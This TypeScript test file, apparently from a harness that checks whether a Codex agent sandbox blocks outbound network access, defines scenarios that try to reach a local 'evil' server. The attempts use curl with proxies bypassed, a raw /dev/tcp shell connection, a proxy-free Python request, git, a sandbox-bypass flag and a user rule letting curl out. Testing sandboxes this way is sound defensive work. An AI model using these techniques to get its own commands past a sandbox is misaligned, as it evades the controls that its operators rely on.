import { codexFiles } from "../../../src/host/codex/codex-files.ts";
import { type Attack, type AttackPlaces, run, type Scenario } from "./attack.ts";

/** No proxy of the caller's: Codex's own would wait for it. */
const withoutProxies = Object.fromEntries(
  ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"].map((name) => [name, ""]),
);

const visited =
  (mark: string): Attack["happened"] =>
  ({ evilVisits }) =>
    evilVisits.some((visit) => visit.includes(`/${mark}`));

/** Ways to reach a server on this machine; each leaves its mark in the path that the server sees. */
const ways: readonly (readonly [string, string, (evil: string, host: string, port: string) => string])[] = [
  ["curl", "curl", (evil) => `curl -s -m 5 ${evil}/curl`],
  ["curl past the proxy", "direct", (evil) => `curl -s -m 5 --noproxy '*' ${evil}/direct`],
  ["curl through the proxy", "proxied", (evil) => `unset NO_PROXY no_proxy; curl -s -m 5 ${evil}/proxied`],
  [
    "the shell itself",
    "shell",
    (_, host, port) => `exec 3<>/dev/tcp/${host}/${port}; printf 'GET /shell HTTP/1.0\\r\\n\\r\\n' >&3; head -1 <&3`,
  ],
  [
    "an interpreter",
    "python",
    (evil) =>
      `python3 -c "import urllib.request as u; u.build_opener(u.ProxyHandler({})).open('${evil}/python', timeout=5)"`,
  ],
  ["git", "git", (evil) => `git -c http.proxy= ls-remote ${evil}/git`],
];

const tries = (prefix: string): readonly Attack[] =>
  ways.map(([name, mark, command]) => ({
    name: `${prefix}: a command that sends data with ${name}`,
    kind: "network",
    rounds: ({ evil }: AttackPlaces) => {
      const { hostname, port } = new URL(evil);
      return [[run(command(evil, hostname, port))]];
    },
    happened: visited(mark),
  }));

const policy = `approvals: { allow: [on-request] }
access: { allow: [read-only, workspace], default: workspace, deny_read: ["~/.ssh"] }
network: { enabled: true, exclusive: true, local_binding: true, allow: [localhost] }
`;

export const networkScenarios: readonly Scenario[] = [
  {
    name: "a user who opens the network",
    policy,
    environment: withoutProxies,
    userConfig: 'sandbox_mode = "workspace-write"\n[sandbox_workspace_write]\nnetwork_access = true\n',
    attacks: tries("network_access = true"),
    allowed: [
      {
        name: "a command that reaches a listed host",
        rounds: ({ evil }) => [
          [
            run(
              `unset NO_PROXY no_proxy; curl -s -m 5 -o answer.txt -w '%{http_code}' http://localhost:${new URL(evil).port}/listed; cat answer.txt`,
              { yield_time_ms: 8000 },
            ),
          ],
        ],
        works: ({ evilVisits }) => evilVisits.includes("GET /listed"),
      },
    ],
  },
  {
    name: "a user who takes the sandbox away for the network",
    policy,
    environment: withoutProxies,
    options: ["--dangerously-bypass-approvals-and-sandbox"],
    attacks: tries("no sandbox"),
  },
  {
    name: "a user who adds hosts of his own",
    policy,
    environment: withoutProxies,
    userConfig: `sandbox_mode = "workspace-write"
[sandbox_workspace_write]
network_access = true
[features.network_proxy]
enabled = true
[features.network_proxy.domains]
"127.0.0.1" = "allow"
`,
    attacks: [
      {
        name: "a host that only the user lists",
        kind: "network",
        rounds: ({ evil }) => [[run(`unset NO_PROXY no_proxy; curl -s -m 5 ${evil}/added`)]],
        happened: visited("added"),
      },
    ],
  },
  {
    name: "a user whose rules let a program out",
    policy,
    environment: withoutProxies,
    userConfig: 'sandbox_mode = "workspace-write"\n',
    userFiles: codexFiles({ ".codex/rules/own.rules": 'prefix_rule(pattern = ["curl"], decision = "allow")\n' }),
    attacks: [
      {
        name: "a program that a rule of the user lets out of the sandbox",
        kind: "network",
        rounds: ({ evil }) => [[run(`curl -s -m 5 ${evil}/ruled`)]],
        happened: visited("ruled"),
      },
    ],
  },
];
